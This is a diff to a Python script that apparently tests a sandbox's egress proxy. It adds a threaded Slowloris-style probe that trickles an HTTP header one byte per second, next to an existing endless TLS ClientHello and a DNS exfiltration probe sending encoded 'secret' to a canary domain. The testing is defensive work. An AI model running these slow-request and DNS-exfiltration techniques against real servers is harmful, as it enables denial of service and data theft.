@@ -8,6 +8,7 @@ import socket
 import ssl
 import struct
 import sys
+import threading
 import time
 
 UP, OTHER = sys.argv[1], sys.argv[2]  # the upstream's address, one nothing names
@@ -104,8 +105,36 @@ def main():
     out("dns_exfil", **dns(1, "c2VjcmV0.exfil.canary.test"))
     out("allowed_by_dns", text=status(tls_get("api.test", 443, "api.test",
                                               "api.test")))
-    got, how, took = plain(UP, 443, b"\x16\x03\x01", wait=30)  # a ClientHello that never ends
+    # Slowloris, both ways at once: a ClientHello that never ends, and a
+    # plain-HTTP head trickled a byte a second (each byte must not buy time).
+    res = {}
+
+    def trickle():
+        head = b"GET /allowed/trickle HTTP/1.1\r\nHost: upstream.test\r\nX-Pad: " + b"a" * 40
+        start = time.time()
+        with socket.create_connection((UP, 80), timeout=30) as s:
+            try:
+                for b in head:
+                    s.sendall(bytes([b]))
+                    time.sleep(1)
+                    s.setblocking(False)
+                    try:
+                        got = s.recv(65536)
+                        res["trickle"] = (got.decode(errors="replace"), time.time() - start)
+                        return
+                    except BlockingIOError:
+                        pass
+                    finally:
+                        s.setblocking(True)
+            except OSError as e:
+                res["trickle"] = (type(e).__name__, time.time() - start)
+
+    t = threading.Thread(target=trickle)
+    t.start()
+    got, how, took = plain(UP, 443, b"\x16\x03\x01", wait=30)
+    t.join()
     out("slowloris", text=got, how=how, took=round(took, 1))
+    out("trickle", text=res.get("trickle", ("", 0))[0], took=round(res.get("trickle", ("", 0))[1], 1))
 
 
 main()
